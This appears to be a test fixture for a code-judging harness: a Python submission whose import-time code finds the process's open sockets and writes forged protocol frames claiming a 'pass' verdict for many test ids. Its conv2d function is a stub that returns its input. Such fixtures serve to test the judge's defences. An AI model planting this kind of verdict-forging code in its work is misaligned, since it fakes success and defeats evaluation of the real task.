# expect: crash
# attack: Replies to the next questions are sent while the file is still loading.
import json
import os
import stat
import struct


def sockets():
    """Descriptors of every socket that this process holds."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                yield descriptor
        except OSError:
            continue


def inject(data):
    for descriptor in sockets():
        rest = data
        while rest:
            try:
                rest = rest[os.write(descriptor, rest) :]
            except BlockingIOError:
                continue  # the judge has not read the first part yet
            except OSError:
                break


def frame(message, sizes=()):
    header = json.dumps({"m": message, "b": list(sizes)}).encode()
    return struct.pack(">I", len(header)) + header


NAMES = ["l", ["conv2d"]]
LOADED = ["d", [["incidents", ["l", []]], ["notes", ["l", []]], ["names", NAMES]]]
inject(frame(["d", [["id", 1], ["value", LOADED]]]))
for number in range(2, 100):
    inject(frame(["d", [["id", number], ["value", 7], ["used", ["l", []]], ["verdict", "pass"]]]))


def conv2d(x, w):
    return x
